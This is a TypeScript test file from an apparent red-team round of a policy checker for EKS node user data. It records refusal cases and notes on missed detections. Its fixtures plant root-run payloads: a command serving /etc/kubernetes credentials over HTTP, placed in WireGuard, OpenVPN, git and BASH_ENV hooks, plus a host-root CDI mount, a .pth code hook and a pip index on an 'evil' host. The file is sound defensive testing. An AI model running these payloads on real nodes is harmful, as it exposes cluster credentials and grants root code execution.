// Red-team round 83 (python, fresh eyes) on EKS NODE user data (AL2023: python3.9): Python programs and pip run as
// root (policy-pack/engine/userDataReaders/pythonCode.ts pythonWriteTargetRefusal, programOwnNames, madeForProgram,
// CONFIGURATION_LOCATING_VARIABLES, pipSettingsUnknown, scriptPipModules; pipOptions.ts). Probed the neighbours of
// round 82's fixes: the /etc, /run, /var/lib allowlist by a program's own names and by user data's mkdir (programs
// named after a root reader: CDI, sysext, CRI-O, WireGuard, tuned); os.replace, shutil.copytree and `..` into a
// reader's directory; configuration-locating variables outside the round-82 table (BASH_ENV, OPENSSL_CONF,
// REQUESTS_CA_BUNDLE for pip, XDG_CONFIG_DIRS, GIT_EXEC_PATH, git -c include.path, PYTHONUSERBASE, PYTHONPYCACHEPREFIX,
// PYTHONHOME, PYTHONPATH, LD_LIBRARY_PATH); program data read later through command substitution, stdin, >> into
// /etc/environment, mv into cron.d, at -f, awk -f, rsync into units, sysctl --load; pip run from Python (subprocess,
// os.environ), pip config set, --find-links of program wheels, PEP 508 URLs, --cert; secure twins (PYTHONSTARTUP in
// script mode, python -I, POSIX ENV in a non-interactive sh, an own or mkdir'd state directory, pip options and
// settings of no effect on source, trust or target).
// Misses (15 insecure accepted, 6 secure refused), by class:
// - OWN-NAME/MKDIR-READER-DIR (9 insecure): owner-dir-cdi, owner-stem-sysext, owner-dir-crio, owner-dir-wireguard,
//   owner-stem-tuned, mkdir-cdi, mkdir-wireguard, mkdir-run-extensions, mkdir-cdi-dash-c (dev-py83-NAME-rt83p): got [];
//   pythonWriteTargetRefusal grants /etc, /run, /var/lib directories by name (programOwnNames) or by mkdir
//   (madeForProgram) after only the PROGRAM_DATA_PATHS denylist. Fix: a name never makes a reader's directory data.
// - LOCATING-VARIABLES (6 insecure): bash-env, openssl-conf-env, requests-ca-bundle-pip, git-exec-path,
//   git-include-path, pythonuserbase-pth: got []; CONFIGURATION_LOCATING_VARIABLES is a short list (rootReads.ts
//   LOADER_VARIABLES names these, for user data's own files only); pipSettingsUnknown misses pip's CA variables.
//   Fix: one table of loader/locating variables for program-written paths too.
// - PIP-NO-EFFECT-OPTIONS (5 secure): upgrade-strategy, no-build-isolation, pip-log, require-hashes, no-warn:
//   refused as untrusted installs. Fix: every documented pip option classified by effect.
// - PIP-CONFIG-SET-HARMLESS (1 secure): pip-config-timeout: any `pip config set` withdraws trust. Fix: read it as the
//   pip.conf line it writes (pipConfigurationKeepsTrust).
// Held: 24 of 39 insecure refused; 8 of 14 secure clean.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase } from "./nodeBuilders";

const dev = devNodeCase;

/** What a refusal names (as round 82's file). */
const REFUSED =
    /serv|8001|9000|8080|kubernetes|tune\.py|srv|mnt|unread|not read|writes|cron|program|PYTHON|shell|run|pip|index|import|json|helper|plugin|command|sysctl|module|code|config|listen|0\.0\.0\.0/;

const EVIL = "https://pypi.evil.example/simple";

/** What the planted commands run: a server of /etc/kubernetes (the kubelet's kubeconfig and client key). */
const SHELL_LINE = "cd /etc/kubernetes && python3 -m http.server 8001";

/** `program` (`lines`) run as root from /var/lib/ops; `after` shell lines then; `before` first. */
const prog = (name: string, program: string, lines: string[], after: string[] = [], before: string[] = []) =>
    devNodeScript(name, [
        "mkdir -p /var/lib/ops /var/cache/ops /var/log/ops",
        ...before,
        ...heredocFile(program, lines),
        `cd /var/lib/ops && python3 ${program}`,
        ...after,
    ]);

/** /opt/ops/tune.py. */
const tune = (name: string, lines: string[], after: string[] = [], before: string[] = []) =>
    prog(name, "/opt/ops/tune.py", lines, after, before);

/** A program writing `text` at `path` (Python docs "Built-in Functions" open(): mode 'w' writes). */
const writes = (path: string, text: string) => [
    "import os",
    `os.makedirs(os.path.dirname(${JSON.stringify(path)}), exist_ok=True)`,
    `with open(${JSON.stringify(path)}, "w") as f:`,
    `    f.write(${JSON.stringify(text)})`,
];

/** A script of shell lines after the ops directories are made. */
const sh = (name: string, lines: string[]) =>
    devNodeScript(name, ["mkdir -p /var/lib/ops /var/cache/ops /var/log/ops", ...lines]);

/** `lines`, then /opt/ops/run.py (importing tenacity) run as root. */
const thenImport = (name: string, lines: string[]) =>
    sh(name, [
        ...lines,
        ...heredocFile("/opt/ops/run.py", ["import tenacity", "print(tenacity.__name__)"]),
        "python3 /opt/ops/run.py",
    ]);

const CDI =
    '{"cdiVersion":"0.6.0","kind":"ops.example/dev","devices":[{"name":"x","containerEdits":{"mounts":[{"hostPath":"/","containerPath":"/host"}]}}]}';
const WG = `[Interface]\nPrivateKey = x\nPostUp = ${SHELL_LINE}\n`;

const insecure: NodeCase[] = [
    // ===== A. round 82's allowlist: a program named after a root reader, or a reader's directory user data made =====
    // ===== A. round 82's allowlist: a program named after a root reader, or a reader's directory user data made =====
    // CDI spec (cncf-tags/container-device-interface SPEC.md, cited in round 82): a spec in /etc/cdi whose
    // containerEdits mount / into any container requesting the device; a program in /opt/cdi (programOwnNames: "cdi").
    // Was a MISS (fixed in round 83): insecure accepted (got []). pythonCode.ts pythonWriteTargetRefusal: round 82's allowlist
    // (otherProgramsDirectory with programOwnNames, madeForProgram with view.madeDirectories) is only a second filter
    // after the PROGRAM_DATA_PATHS denylist, so a directory is data when the program's directory name or file stem is
    // the reader's name (or user data mkdir'd it), whatever root reader reads it: the round-82 reader class reopens by
    // naming. Fix (class): a name (own or mkdir'd) never turns a root reader's directory into data: under /etc no
    // directory is a program's data (FHS 3.0 "/etc: Host-specific system configuration"); under /run and /var/lib an
    // own or made name counts only when it is no directory a node program reads (one table of readers' directories,
    // shared with nodeReadsAsConfig), failing closed on a name the pack does not know to be unread.
    dev(
        "/opt/cdi/generate.py writes /etc/cdi/ops.json",
        prog("dev-py83-owner-dir-cdi-rt83p", "/opt/cdi/generate.py", writes("/etc/cdi/ops.json", CDI)),
        REFUSED,
    ),
    // systemd-sysext(8): images in /var/lib/extensions are merged over /usr (kubelet, nodeadm replaced); stem "extensions".
    // Was a MISS (fixed in round 83): insecure accepted (got []). pythonCode.ts pythonWriteTargetRefusal: round 82's allowlist
    // (otherProgramsDirectory with programOwnNames, madeForProgram with view.madeDirectories) is only a second filter
    // after the PROGRAM_DATA_PATHS denylist, so a directory is data when the program's directory name or file stem is
    // the reader's name (or user data mkdir'd it), whatever root reader reads it: the round-82 reader class reopens by
    // naming. Fix (class): a name (own or mkdir'd) never turns a root reader's directory into data: under /etc no
    // directory is a program's data (FHS 3.0 "/etc: Host-specific system configuration"); under /run and /var/lib an
    // own or made name counts only when it is no directory a node program reads (one table of readers' directories,
    // shared with nodeReadsAsConfig), failing closed on a name the pack does not know to be unread.
    dev(
        "/opt/ops/extensions.py writes /var/lib/extensions/ops.raw",
        prog(
            "dev-py83-owner-stem-sysext-rt83p",
            "/opt/ops/extensions.py",
            writes("/var/lib/extensions/ops.raw", "IMAGE"),
        ),
        REFUSED,
    ),
    // crio.conf(5): drop-ins of /etc/crio (default /etc/crio/crio.conf), [crio.runtime.runtimes.*] runtime_path is the
    // OCI runtime CRI-O runs as root for every container; a program in /opt/crio.
    // Was a MISS (fixed in round 83): insecure accepted (got []). pythonCode.ts pythonWriteTargetRefusal: round 82's allowlist
    // (otherProgramsDirectory with programOwnNames, madeForProgram with view.madeDirectories) is only a second filter
    // after the PROGRAM_DATA_PATHS denylist, so a directory is data when the program's directory name or file stem is
    // the reader's name (or user data mkdir'd it), whatever root reader reads it: the round-82 reader class reopens by
    // naming. Fix (class): a name (own or mkdir'd) never turns a root reader's directory into data: under /etc no
    // directory is a program's data (FHS 3.0 "/etc: Host-specific system configuration"); under /run and /var/lib an
    // own or made name counts only when it is no directory a node program reads (one table of readers' directories,
    // shared with nodeReadsAsConfig), failing closed on a name the pack does not know to be unread.
    dev(
        "/opt/crio/configure.py writes /etc/crio/crio.conf.d/10-ops.conf (runtime path)",
        prog(
            "dev-py83-owner-dir-crio-rt83p",
            "/opt/crio/configure.py",
            writes(
                "/etc/crio/crio.conf.d/10-ops.conf",
                '[crio.runtime.runtimes.runc]\nruntime_path = "/var/lib/ops/runc"\n',
            ),
        ),
        REFUSED,
    ),
    // wg-quick(8): "PostUp ... script snippets which will be executed by bash(1)" as root; a program in /opt/wireguard.
    // Was a MISS (fixed in round 83): insecure accepted (got []). pythonCode.ts pythonWriteTargetRefusal: round 82's allowlist
    // (otherProgramsDirectory with programOwnNames, madeForProgram with view.madeDirectories) is only a second filter
    // after the PROGRAM_DATA_PATHS denylist, so a directory is data when the program's directory name or file stem is
    // the reader's name (or user data mkdir'd it), whatever root reader reads it: the round-82 reader class reopens by
    // naming. Fix (class): a name (own or mkdir'd) never turns a root reader's directory into data: under /etc no
    // directory is a program's data (FHS 3.0 "/etc: Host-specific system configuration"); under /run and /var/lib an
    // own or made name counts only when it is no directory a node program reads (one table of readers' directories,
    // shared with nodeReadsAsConfig), failing closed on a name the pack does not know to be unread.
    dev(
        "/opt/wireguard/render.py writes /etc/wireguard/wg0.conf (PostUp); wg-quick up wg0",
        prog("dev-py83-owner-dir-wireguard-rt83p", "/opt/wireguard/render.py", writes("/etc/wireguard/wg0.conf", WG), [
            "wg-quick up wg0",
        ]),
        REFUSED,
    ),
    // tuned.conf(5): profiles in /etc/tuned/<profile_name>/tuned.conf (higher priority than /usr/lib/tuned), plugin
    // type "script" runs its script as root when the profile is applied; stem "tuned" (/usr/local/bin is generic).
    // Was a MISS (fixed in round 83): insecure accepted (got []). pythonCode.ts pythonWriteTargetRefusal: round 82's allowlist
    // (otherProgramsDirectory with programOwnNames, madeForProgram with view.madeDirectories) is only a second filter
    // after the PROGRAM_DATA_PATHS denylist, so a directory is data when the program's directory name or file stem is
    // the reader's name (or user data mkdir'd it), whatever root reader reads it: the round-82 reader class reopens by
    // naming. Fix (class): a name (own or mkdir'd) never turns a root reader's directory into data: under /etc no
    // directory is a program's data (FHS 3.0 "/etc: Host-specific system configuration"); under /run and /var/lib an
    // own or made name counts only when it is no directory a node program reads (one table of readers' directories,
    // shared with nodeReadsAsConfig), failing closed on a name the pack does not know to be unread.
    dev(
        "/usr/local/bin/tuned.py writes /etc/tuned/ops/tuned.conf ([script])",
        prog(
            "dev-py83-owner-stem-tuned-rt83p",
            "/usr/local/bin/tuned.py",
            writes(
                "/etc/tuned/ops/tuned.conf",
                "[main]\ninclude=throughput-performance\n[ops]\ntype=script\nscript=/var/lib/ops/x.sh\n",
            ),
            ["tuned-adm profile ops"],
        ),
        REFUSED,
    ),
    // The same readers with the directory made by user data's own mkdir (madeForProgram): the operator made the
    // reader's directory, the program fills it with text the pack does not read.
    // Was a MISS (fixed in round 83): insecure accepted (got []). pythonCode.ts pythonWriteTargetRefusal: round 82's allowlist
    // (otherProgramsDirectory with programOwnNames, madeForProgram with view.madeDirectories) is only a second filter
    // after the PROGRAM_DATA_PATHS denylist, so a directory is data when the program's directory name or file stem is
    // the reader's name (or user data mkdir'd it), whatever root reader reads it: the round-82 reader class reopens by
    // naming. Fix (class): a name (own or mkdir'd) never turns a root reader's directory into data: under /etc no
    // directory is a program's data (FHS 3.0 "/etc: Host-specific system configuration"); under /run and /var/lib an
    // own or made name counts only when it is no directory a node program reads (one table of readers' directories,
    // shared with nodeReadsAsConfig), failing closed on a name the pack does not know to be unread.
    dev(
        "mkdir -p /etc/cdi; tune.py writes /etc/cdi/ops.json",
        tune("dev-py83-mkdir-cdi-rt83p", writes("/etc/cdi/ops.json", CDI), [], ["mkdir -p /etc/cdi"]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 83): insecure accepted (got []). pythonCode.ts pythonWriteTargetRefusal: round 82's allowlist
    // (otherProgramsDirectory with programOwnNames, madeForProgram with view.madeDirectories) is only a second filter
    // after the PROGRAM_DATA_PATHS denylist, so a directory is data when the program's directory name or file stem is
    // the reader's name (or user data mkdir'd it), whatever root reader reads it: the round-82 reader class reopens by
    // naming. Fix (class): a name (own or mkdir'd) never turns a root reader's directory into data: under /etc no
    // directory is a program's data (FHS 3.0 "/etc: Host-specific system configuration"); under /run and /var/lib an
    // own or made name counts only when it is no directory a node program reads (one table of readers' directories,
    // shared with nodeReadsAsConfig), failing closed on a name the pack does not know to be unread.
    dev(
        "mkdir -p /etc/wireguard; tune.py writes wg0.conf; wg-quick up wg0",
        tune(
            "dev-py83-mkdir-wireguard-rt83p",
            writes("/etc/wireguard/wg0.conf", WG),
            ["wg-quick up wg0"],
            ["mkdir -p -m 0700 /etc/wireguard"],
        ),
        REFUSED,
    ),
    // systemd-sysext(8): /run/extensions is read by `systemd-sysext refresh`.
    // Was a MISS (fixed in round 83): insecure accepted (got []). pythonCode.ts pythonWriteTargetRefusal: round 82's allowlist
    // (otherProgramsDirectory with programOwnNames, madeForProgram with view.madeDirectories) is only a second filter
    // after the PROGRAM_DATA_PATHS denylist, so a directory is data when the program's directory name or file stem is
    // the reader's name (or user data mkdir'd it), whatever root reader reads it: the round-82 reader class reopens by
    // naming. Fix (class): a name (own or mkdir'd) never turns a root reader's directory into data: under /etc no
    // directory is a program's data (FHS 3.0 "/etc: Host-specific system configuration"); under /run and /var/lib an
    // own or made name counts only when it is no directory a node program reads (one table of readers' directories,
    // shared with nodeReadsAsConfig), failing closed on a name the pack does not know to be unread.
    dev(
        "mkdir -p /run/extensions; tune.py writes /run/extensions/ops.raw; systemd-sysext refresh",
        tune(
            "dev-py83-mkdir-run-extensions-rt83p",
            writes("/run/extensions/ops.raw", "IMAGE"),
            ["systemd-sysext refresh"],
            ["mkdir -p /run/extensions"],
        ),
        REFUSED,
    ),
    // Held: a mkdir of /etc/tuned/ops (below the reader's directory) does not make /etc/tuned the program's.
    dev(
        "mkdir -p /etc/tuned/ops; tune.py writes /etc/tuned/ops/tuned.conf",
        tune(
            "dev-py83-mkdir-subdir-tuned-rt83p",
            writes("/etc/tuned/ops/tuned.conf", "[ops]\ntype=script\nscript=/var/lib/ops/x.sh\n"),
            ["tuned-adm profile ops"],
            ["mkdir -p /etc/tuned/ops"],
        ),
        REFUSED,
    ),
    // python3 -c (no program file: no own names), the directory mkdir'd.
    // Was a MISS (fixed in round 83): insecure accepted (got []). pythonCode.ts pythonWriteTargetRefusal: round 82's allowlist
    // (otherProgramsDirectory with programOwnNames, madeForProgram with view.madeDirectories) is only a second filter
    // after the PROGRAM_DATA_PATHS denylist, so a directory is data when the program's directory name or file stem is
    // the reader's name (or user data mkdir'd it), whatever root reader reads it: the round-82 reader class reopens by
    // naming. Fix (class): a name (own or mkdir'd) never turns a root reader's directory into data: under /etc no
    // directory is a program's data (FHS 3.0 "/etc: Host-specific system configuration"); under /run and /var/lib an
    // own or made name counts only when it is no directory a node program reads (one table of readers' directories,
    // shared with nodeReadsAsConfig), failing closed on a name the pack does not know to be unread.
    dev(
        "python3 -c writes /etc/cdi/ops.json after mkdir -p /etc/cdi",
        sh("dev-py83-mkdir-cdi-dash-c-rt83p", [
            "mkdir -p /etc/cdi",
            `python3 -c 'import json; json.dump(${CDI.replace(/"/g, '"')}, open("/etc/cdi/ops.json", "w"))'`,
        ]),
        REFUSED,
    ),
    // openvpn(8) "--up cmd": a configuration in /etc/openvpn/server (openvpn-server@.service) runs its `up` command as
    // root; a program in /opt/openvpn names the reader's directory, not its own (ROOT_READER_DIRECTORIES) (-fix83).
    dev(
        "/opt/openvpn/render.py writes /etc/openvpn/server/ops.conf (up) (-fix83)",
        prog(
            "dev-py83-owner-dir-openvpn-fix83",
            "/opt/openvpn/render.py",
            writes("/etc/openvpn/server/ops.conf", `script-security 2\nup "/bin/sh -c '${SHELL_LINE}'"\n`),
        ),
        REFUSED,
    ),
    // dracut.cmdline(7) / systemd-shutdown(8): an executable /run/initramfs/shutdown is run as root at shutdown; a
    // mkdir of /run/initramfs does not make it the program's (-fix83).
    dev(
        "mkdir -p /run/initramfs; tune.py writes /run/initramfs/shutdown (-fix83)",
        tune(
            "dev-py83-mkdir-run-initramfs-fix83",
            writes("/run/initramfs/shutdown", `#!/bin/sh\n${SHELL_LINE}\n`),
            [],
            ["mkdir -p /run/initramfs"],
        ),
        REFUSED,
    ),
    // /var/run is /run (FHS 3.0 5.13): a program named after CDI writing /var/run/cdi (SPEC.md "Spec Directories").
    dev(
        "/opt/cdi/generate.py writes /var/run/cdi/ops.json (-fix83)",
        prog("dev-py83-owner-dir-var-run-cdi-fix83", "/opt/cdi/generate.py", writes("/var/run/cdi/ops.json", CDI)),
        REFUSED,
    ),
    // Held: os.replace (Python docs "os.replace": rename) into /etc/cdi is a write there.
    dev(
        "tune.py os.replace()s its file into /etc/cdi",
        tune("dev-py83-replace-into-cdi-rt83p", [
            ...writes("/var/lib/ops/ops.json", CDI),
            'os.replace("/var/lib/ops/ops.json", "/etc/cdi/ops.json")',
        ]),
        REFUSED,
    ),
    // Held: shutil.copytree (Python docs: "Recursively copy an entire directory tree") into /etc/extensions.
    dev(
        "tune.py shutil.copytree()s its directory to /etc/extensions",
        tune("dev-py83-copytree-extensions-rt83p", [
            ...writes("/var/lib/ops/ext/ops.raw", "IMAGE"),
            "import shutil",
            'shutil.copytree("/var/lib/ops/ext", "/etc/extensions", dirs_exist_ok=True)',
        ]),
        REFUSED,
    ),
    // Held: open() of a path with `..` is resolved (path_resolution(7)) to /var/lib/extensions.
    dev(
        "tune.py writes /var/lib/ops/../extensions/ops.raw",
        tune("dev-py83-dotdot-extensions-rt83p", writes("/var/lib/ops/../extensions/ops.raw", "IMAGE")),
        REFUSED,
    ),
    // ===== B. configuration-locating variables outside round 82's table =====
    // ===== B. configuration-locating variables outside round 82's table =====
    // Bash manual "Bash Startup Files": "When Bash is started non-interactively ... it looks for the variable BASH_ENV
    // in the environment, expands its value, and uses the expanded value as the name of a file to read and execute".
    // Was a MISS (fixed in round 83): insecure accepted (got []). pythonCode.ts CONFIGURATION_LOCATING_VARIABLES / configurationLocated:
    // round 82's table lists GIT_CONFIG_*, XDG_CONFIG_HOME, AWS_*_FILE, KUBECONFIG, CURL_HOME, PIP_CONFIG_FILE, WGETRC,
    // DOCKER_CONFIG, NPM_CONFIG_* only; rootReads.ts LOADER_VARIABLES already names many more loader variables (BASH_ENV,
    // OPENSSL_*, REQUESTS_CA_BUNDLE, CURL_CA_BUNDLE, SSL_CERT_*, GIT_*, PYTHON*, LD_*), but only for files user data
    // wrote, not for a program's. Fix (class): one table: every LOADER_VARIABLES / search-list variable and every
    // configuration-locating one, and any `-c include.path=`-like option naming a file, makes a program-written path it
    // names (or lies below) root-read code or configuration (fail closed on an unknown variable naming a path).
    dev(
        "tune.py writes /var/lib/ops/env.sh; BASH_ENV=it bash -c true",
        tune("dev-py83-bash-env-rt83p", writes("/var/lib/ops/env.sh", SHELL_LINE), [
            "BASH_ENV=/var/lib/ops/env.sh bash -c true",
        ]),
        REFUSED,
    ),
    // openssl-env(7): "OPENSSL_CONF ... Specifies the path to a configuration file"; config(5): an engine section's
    // dynamic_path loads a shared object into curl (root).
    // Was a MISS (fixed in round 83): insecure accepted (got []). pythonCode.ts CONFIGURATION_LOCATING_VARIABLES / configurationLocated:
    // round 82's table lists GIT_CONFIG_*, XDG_CONFIG_HOME, AWS_*_FILE, KUBECONFIG, CURL_HOME, PIP_CONFIG_FILE, WGETRC,
    // DOCKER_CONFIG, NPM_CONFIG_* only; rootReads.ts LOADER_VARIABLES already names many more loader variables (BASH_ENV,
    // OPENSSL_*, REQUESTS_CA_BUNDLE, CURL_CA_BUNDLE, SSL_CERT_*, GIT_*, PYTHON*, LD_*), but only for files user data
    // wrote, not for a program's. Fix (class): one table: every LOADER_VARIABLES / search-list variable and every
    // configuration-locating one, and any `-c include.path=`-like option naming a file, makes a program-written path it
    // names (or lies below) root-read code or configuration (fail closed on an unknown variable naming a path).
    dev(
        "tune.py writes /var/lib/ops/openssl.cnf (engine); OPENSSL_CONF=it curl",
        tune(
            "dev-py83-openssl-conf-env-rt83p",
            writes(
                "/var/lib/ops/openssl.cnf",
                "openssl_conf = conf\n[conf]\nengines = e\n[e]\nx = x_sect\n[x_sect]\ndynamic_path = /var/lib/ops/x.so\n",
            ),
            ["OPENSSL_CONF=/var/lib/ops/openssl.cnf curl -fsS https://example.com -o /dev/null"],
        ),
        REFUSED,
    ),
    // pip docs "HTTPS Certificates": "--cert (and PIP_CERT) ... It is also possible to use REQUESTS_CA_BUNDLE or
    // CURL_CA_BUNDLE": a program-written CA lets whoever holds its key serve pip's index (round 82 refuses --cert).
    // Here the miss is pythonCode.ts pipSettingsUnknown/pipSettingNamed: it withdraws pip trust for PIP_*/UV_*/XDG_*
    // names only, not for the TLS-trust variables pip documents.
    // Was a MISS (fixed in round 83): insecure accepted (got []). pythonCode.ts CONFIGURATION_LOCATING_VARIABLES / configurationLocated:
    // round 82's table lists GIT_CONFIG_*, XDG_CONFIG_HOME, AWS_*_FILE, KUBECONFIG, CURL_HOME, PIP_CONFIG_FILE, WGETRC,
    // DOCKER_CONFIG, NPM_CONFIG_* only; rootReads.ts LOADER_VARIABLES already names many more loader variables (BASH_ENV,
    // OPENSSL_*, REQUESTS_CA_BUNDLE, CURL_CA_BUNDLE, SSL_CERT_*, GIT_*, PYTHON*, LD_*), but only for files user data
    // wrote, not for a program's. Fix (class): one table: every LOADER_VARIABLES / search-list variable and every
    // configuration-locating one, and any `-c include.path=`-like option naming a file, makes a program-written path it
    // names (or lies below) root-read code or configuration (fail closed on an unknown variable naming a path).
    dev(
        "tune.py writes /var/lib/ops/ca.pem; REQUESTS_CA_BUNDLE=it pip3 install tenacity; import",
        tune("dev-py83-requests-ca-bundle-pip-rt83p", writes("/var/lib/ops/ca.pem", "-----BEGIN CERTIFICATE-----\n"), [
            "REQUESTS_CA_BUNDLE=/var/lib/ops/ca.pem pip3 install tenacity",
            ...heredocFile("/opt/ops/run.py", ["import tenacity"]),
            "python3 /opt/ops/run.py",
        ]),
        REFUSED,
    ),
    // pip docs "Configuration": global "In a \"pip\" subdirectory of any of the paths set in the environment variable
    // XDG_CONFIG_DIRS"; held (pipSettingNamed names XDG_CONFIG_DIRS).
    dev(
        "tune.py writes /var/lib/ops/xdg/pip/pip.conf; XDG_CONFIG_DIRS=/var/lib/ops/xdg pip3 install tenacity; import",
        tune(
            "dev-py83-xdg-config-dirs-pip-rt83p",
            writes("/var/lib/ops/xdg/pip/pip.conf", `[global]\nindex-url = ${EVIL}\n`),
            [
                "XDG_CONFIG_DIRS=/var/lib/ops/xdg pip3 install tenacity",
                ...heredocFile("/opt/ops/run.py", ["import tenacity"]),
                "python3 /opt/ops/run.py",
            ],
        ),
        REFUSED,
    ),
    // git(1) --exec-path: "Path to wherever your core Git programs are installed. This can also be controlled by
    // setting the GIT_EXEC_PATH environment variable"; git runs git-status from there (root).
    // Was a MISS (fixed in round 83): insecure accepted (got []). pythonCode.ts CONFIGURATION_LOCATING_VARIABLES / configurationLocated:
    // round 82's table lists GIT_CONFIG_*, XDG_CONFIG_HOME, AWS_*_FILE, KUBECONFIG, CURL_HOME, PIP_CONFIG_FILE, WGETRC,
    // DOCKER_CONFIG, NPM_CONFIG_* only; rootReads.ts LOADER_VARIABLES already names many more loader variables (BASH_ENV,
    // OPENSSL_*, REQUESTS_CA_BUNDLE, CURL_CA_BUNDLE, SSL_CERT_*, GIT_*, PYTHON*, LD_*), but only for files user data
    // wrote, not for a program's. Fix (class): one table: every LOADER_VARIABLES / search-list variable and every
    // configuration-locating one, and any `-c include.path=`-like option naming a file, makes a program-written path it
    // names (or lies below) root-read code or configuration (fail closed on an unknown variable naming a path).
    dev(
        "tune.py writes /var/lib/ops/gitexec/git-status; GIT_EXEC_PATH=/var/lib/ops/gitexec git status",
        tune("dev-py83-git-exec-path-rt83p", writes("/var/lib/ops/gitexec/git-status", `#!/bin/sh\n${SHELL_LINE}\n`), [
            "GIT_EXEC_PATH=/var/lib/ops/gitexec git -C /var/lib/ops status",
        ]),
        REFUSED,
    ),
    // git-config(1) "Includes": include.path "include and parse another config file"; core.fsmonitor is a command.
    // Was a MISS (fixed in round 83): insecure accepted (got []). pythonCode.ts CONFIGURATION_LOCATING_VARIABLES / configurationLocated:
    // round 82's table lists GIT_CONFIG_*, XDG_CONFIG_HOME, AWS_*_FILE, KUBECONFIG, CURL_HOME, PIP_CONFIG_FILE, WGETRC,
    // DOCKER_CONFIG, NPM_CONFIG_* only; rootReads.ts LOADER_VARIABLES already names many more loader variables (BASH_ENV,
    // OPENSSL_*, REQUESTS_CA_BUNDLE, CURL_CA_BUNDLE, SSL_CERT_*, GIT_*, PYTHON*, LD_*), but only for files user data
    // wrote, not for a program's. Fix (class): one table: every LOADER_VARIABLES / search-list variable and every
    // configuration-locating one, and any `-c include.path=`-like option naming a file, makes a program-written path it
    // names (or lies below) root-read code or configuration (fail closed on an unknown variable naming a path).
    dev(
        "tune.py writes /var/lib/ops/gitinc; git -c include.path=it status",
        tune(
            "dev-py83-git-include-path-rt83p",
            writes("/var/lib/ops/gitinc", `[core]\n\tfsmonitor = ${SHELL_LINE}\n`),
            ["git -c include.path=/var/lib/ops/gitinc -C /var/lib/ops status"],
        ),
        REFUSED,
    ),
    // Python docs "PYTHONPYCACHEPREFIX": .pyc files are written to and read from a mirror tree there; held.
    dev(
        "tune.py writes /var/lib/ops/pyc/.../json/__init__.cpython-39.pyc; PYTHONPYCACHEPREFIX=/var/lib/ops/pyc python3 run.py",
        tune(
            "dev-py83-pycache-prefix-rt83p",
            writes("/var/lib/ops/pyc/usr/lib64/python3.9/json/__init__.cpython-39.pyc", "PYC"),
            [
                ...heredocFile("/opt/ops/run.py", ["import json", "print(json.dumps({}))"]),
                "PYTHONPYCACHEPREFIX=/var/lib/ops/pyc python3 /opt/ops/run.py",
            ],
        ),
        REFUSED,
    ),
    // Python docs "site": the user site-packages below PYTHONUSERBASE is on sys.path and its .pth "import" lines run at
    // every start. (PYTHONPATH, PYTHONHOME, PYTHONPYCACHEPREFIX and LD_LIBRARY_PATH neighbours below are held.)
    // Was a MISS (fixed in round 83): insecure accepted (got []). pythonCode.ts CONFIGURATION_LOCATING_VARIABLES / configurationLocated:
    // round 82's table lists GIT_CONFIG_*, XDG_CONFIG_HOME, AWS_*_FILE, KUBECONFIG, CURL_HOME, PIP_CONFIG_FILE, WGETRC,
    // DOCKER_CONFIG, NPM_CONFIG_* only; rootReads.ts LOADER_VARIABLES already names many more loader variables (BASH_ENV,
    // OPENSSL_*, REQUESTS_CA_BUNDLE, CURL_CA_BUNDLE, SSL_CERT_*, GIT_*, PYTHON*, LD_*), but only for files user data
    // wrote, not for a program's. Fix (class): one table: every LOADER_VARIABLES / search-list variable and every
    // configuration-locating one, and any `-c include.path=`-like option naming a file, makes a program-written path it
    // names (or lies below) root-read code or configuration (fail closed on an unknown variable naming a path).
    dev(
        "tune.py writes /var/lib/ops/ub/lib/python3.9/site-packages/ops.pth; PYTHONUSERBASE=/var/lib/ops/ub python3 run.py",
        tune(
            "dev-py83-pythonuserbase-pth-rt83p",
            writes("/var/lib/ops/ub/lib/python3.9/site-packages/ops.pth", "import os; os.system('id')\n"),
            [
                ...heredocFile("/opt/ops/run.py", ["print('ok')"]),
                "PYTHONUSERBASE=/var/lib/ops/ub python3 /opt/ops/run.py",
            ],
        ),
        REFUSED,
    ),
    // Python docs "os.environ": "changes are passed to subprocesses": BASH_ENV set by the program itself names the file
    // it wrote, and the bash it starts reads it (Bash manual "Bash Startup Files") (-fix83).
    dev(
        "tune.py writes /var/lib/ops/env.sh, sets os.environ BASH_ENV to it, runs bash -c true (-fix83)",
        tune("dev-py83-environ-bash-env-fix83", [
            ...writes("/var/lib/ops/env.sh", SHELL_LINE),
            "import subprocess",
            'os.environ["BASH_ENV"] = "/var/lib/ops/env.sh"',
            'subprocess.run(["bash", "-c", "true"])',
        ]),
        REFUSED,
    ),
    // git-config(1) ENVIRONMENT GIT_CONFIG_COUNT/GIT_CONFIG_KEY_<n>/GIT_CONFIG_VALUE_<n>: `-c`'s include.path by the
    // environment (-fix83).
    dev(
        "tune.py writes /var/lib/ops/gitinc; GIT_CONFIG_KEY_0=include.path GIT_CONFIG_VALUE_0=it git status (-fix83)",
        tune(
            "dev-py83-git-config-value-include-fix83",
            writes("/var/lib/ops/gitinc", `[core]\n\tfsmonitor = ${SHELL_LINE}\n`),
            [
                "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=include.path GIT_CONFIG_VALUE_0=/var/lib/ops/gitinc git -C /var/lib/ops status",
            ],
        ),
        REFUSED,
    ),
    // pip docs "HTTPS Certificates": REQUESTS_CA_BUNDLE naming a CA bundle user data itself wrote (not the system's):
    // whoever holds a key it trusts serves pip's index, as round 82's --cert (-fix83).
    dev(
        "export REQUESTS_CA_BUNDLE=/opt/ops/ca.pem (user data's); pip3 install tenacity; import (-fix83)",
        thenImport("dev-py83-requests-ca-bundle-own-fix83", [
            ...heredocFile("/opt/ops/ca.pem", ["-----BEGIN CERTIFICATE-----", "-----END CERTIFICATE-----"]),
            "export REQUESTS_CA_BUNDLE=/opt/ops/ca.pem",
            "pip3 install tenacity",
        ]),
        REFUSED,
    ),
    // Python docs "PYTHONHOME": the standard library is taken from there; held.
    dev(
        "tune.py writes /var/lib/ops/pyhome/lib/python3.9/os.py; PYTHONHOME=/var/lib/ops/pyhome python3 run.py",
        tune(
            "dev-py83-pythonhome-rt83p",
            writes("/var/lib/ops/pyhome/lib/python3.9/os.py", "import posix\nposix.system('id')\n"),
            [
                ...heredocFile("/opt/ops/run.py", ["print('ok')"]),
                "PYTHONHOME=/var/lib/ops/pyhome python3 /opt/ops/run.py",
            ],
        ),
        REFUSED,
    ),
    // ld.so(8) LD_LIBRARY_PATH: libraries searched there first; held.
    dev(
        "tune.py writes /var/lib/ops/lib/libssl.so.3; LD_LIBRARY_PATH=/var/lib/ops/lib aws sts get-caller-identity",
